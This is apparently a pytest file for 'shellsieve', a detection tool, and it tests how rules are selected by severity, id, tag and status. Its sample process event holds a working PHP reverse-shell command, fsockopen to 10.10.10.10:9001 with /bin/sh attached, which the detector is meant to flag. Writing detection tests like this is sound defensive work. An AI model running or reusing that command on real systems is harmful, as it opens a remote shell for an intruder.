"""Rule selection: --min-severity, --include-rule, --exclude-rule leave rules out before compiling,
and an id or tag that names no loaded rule is refused at start (SS401, exit 2)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from shellsieve.cli import build
from shellsieve.model.selection import Selection

from conftest import rule_ids, PATTERNS, PHP_FSOCKOPEN

CLI = str(Path(sys.executable).parent / "shellsieve")
PHP_EVENT = json.dumps({
    "@timestamp": "2026-11-22T10:00:00.000Z", "host": {"os": {"type": "linux"}, "name": "h"},
    "event": {"category": ["process"], "type": ["start"], "kind": "event"},
    "process": {"name": "php", "executable": "/usr/bin/php", "pid": 7, "entity_id": "e7",
                "command_line": "php -r '$s=fsockopen(\"10.10.10.10\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                "args": ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");'],
                "parent": {"name": "bash", "executable": "/usr/bin/bash", "pid": 6}},
    "user": {"name": "www-data", "id": "33"}})


def _ids(selection: Selection) -> list[str]:
    _, ruleset, _ = build([PATTERNS], None, selection)
    return [cr.rule.id for cr in ruleset.rules]


class TestSelect:
    def test_everything_by_default(self) -> None:
        """Without options every loaded rule runs."""
        assert len(_ids(Selection())) == 14  # 3 Elastic, 2 Wazuh, 1 Sigma seed rules; 8 of patterns/shellsieve

    def test_min_severity_leaves_lower_rules_out(self) -> None:
        """--min-severity critical keeps only the critical rules, in load order."""
        rules, ruleset, _ = build([PATTERNS], None, Selection(min_severity="critical"))
        assert ruleset.rules and all(cr.rule.severity == "critical" for cr in ruleset.rules)
        assert len(ruleset.rules) < 14

    def test_include_only_and_exclude(self) -> None:
        """--include-rule runs only the ids named; --exclude-rule removes one."""
        assert _ids(Selection(include=(PHP_FSOCKOPEN,))) == [PHP_FSOCKOPEN]
        assert PHP_FSOCKOPEN not in _ids(Selection(exclude=(PHP_FSOCKOPEN,)))
        assert len(_ids(Selection(exclude=(PHP_FSOCKOPEN,)))) == 13

    def test_an_unknown_id_is_reported(self) -> None:
        """An id that names no loaded rule, or a tag none carries, is an SS401 error naming the
        option and the value."""
        _, _, diags = build([PATTERNS], None, Selection(exclude=("no-such-rule",), tags=("attack.t9999",)))
        found = [d for d in diags if d.code.code == "SS401"]
        assert [d.severity for d in found] == ["error", "error"]
        assert "--exclude-rule no-such-rule" in found[0].render()
        assert "--tag attack.t9999" in found[1].render()

    def test_a_bad_severity_is_refused(self) -> None:
        """Selection refuses a severity it does not know, naming the field."""
        with pytest.raises(ValueError, match="min_severity"):
            Selection(min_severity="severe")


class TestCommand:
    def _run(self, *args: str, cache: Path) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([CLI, "run", "--stats-interval", "0", "--cache-dir", str(cache), *args],
                              input=PHP_EVENT.encode() + b"\n", capture_output=True, timeout=120)

    def test_an_excluded_rule_does_not_alert_even_with_a_warm_cache(self, tmp_path: Path) -> None:
        """The cache is keyed by the selection too: a database compiled with every rule is not reused
        for a run that leaves one out."""
        full = self._run(cache=tmp_path)
        assert PHP_FSOCKOPEN in rule_ids(json.loads(full.stdout))
        less = self._run("--exclude-rule", PHP_FSOCKOPEN, cache=tmp_path)
        assert PHP_FSOCKOPEN not in rule_ids(json.loads(less.stdout))

    def test_an_unknown_id_is_refused_at_start(self, tmp_path: Path) -> None:
        """run exits 2 when a selected id names no loaded rule, naming the option and the id; no
        event is read (a typo must not silently leave a rule running)."""
        refused = self._run("--exclude-rule", "typo", cache=tmp_path)
        assert refused.returncode == 2 and refused.stdout == b""
        assert b"--exclude-rule typo" in refused.stderr and b"startup_failed" in refused.stderr

    def test_check_refuses_an_unknown_tag(self, tmp_path: Path) -> None:
        """check exits 2 on a --tag no loaded rule carries, and says so."""
        r = subprocess.run([CLI, "check", "--format", "text", "--cache-dir", str(tmp_path), "--tag", "attack.t9999"],
                           capture_output=True, timeout=120)
        assert r.returncode == 2 and b"--tag attack.t9999" in r.stdout

    def test_a_bad_status_option_exits_2(self, tmp_path: Path) -> None:
        """--status takes the Sigma statuses and Elastic maturities only."""
        r = self._run("--status", "stabel", cache=tmp_path)
        assert r.returncode == 2 and b"--status" in r.stderr

    def test_a_bad_severity_option_exits_2(self, tmp_path: Path) -> None:
        """--min-severity takes low, medium, high or critical; anything else is refused naming it."""
        r = self._run("--min-severity", "severe", cache=tmp_path)
        assert r.returncode == 2 and b"--min-severity" in r.stderr


SIGMA = PATTERNS / "sigma" / "webshell_tool_recon.yml"


class TestTagsAndStatus:
    def _sigma_with_status(self, tmp_path: Path, status: str) -> Path:
        path = tmp_path / "rule.yml"
        path.write_text(SIGMA.read_text().replace("status: test", f"status: {status}"))
        return path

    def test_deprecated_rules_run_only_when_asked(self, tmp_path: Path) -> None:
        """A deprecated Sigma rule is left out by default and runs with --status deprecated."""
        path = self._sigma_with_status(tmp_path, "deprecated")
        assert build([path], None, Selection())[1].rules == ()
        kept = build([path], None, Selection(statuses=("deprecated",)))[1].rules
        assert [cr.rule.status for cr in kept] == ["deprecated"]

    def test_status_names_what_runs(self, tmp_path: Path) -> None:
        """--status stable leaves out a `test` rule; Elastic maturity is read the same way."""
        assert build([SIGMA], None, Selection(statuses=("stable",)))[1].rules == ()
        prod = build([PATTERNS / "elastic"], None, Selection(statuses=("production",)))[1].rules
        assert len(prod) == 3 and {cr.rule.status for cr in prod} == {"production"}

    def test_tags_select_across_formats(self) -> None:
        """--tag keeps rules carrying the tag, case-insensitive: Sigma `attack.*` and Elastic tags."""
        sigma_tag = build([SIGMA], None, Selection())[1].rules[0].rule.tags[0]
        assert [cr.rule.ruleset for cr in build([PATTERNS], None, Selection(tags=(sigma_tag.upper(),)))[1].rules] \
            == ["sigma"]
        elastic = build([PATTERNS], None, Selection(tags=("tactic: execution",)))[1].rules
        assert [cr.rule.id for cr in elastic] and all(cr.rule.ruleset == "elastic" for cr in elastic)
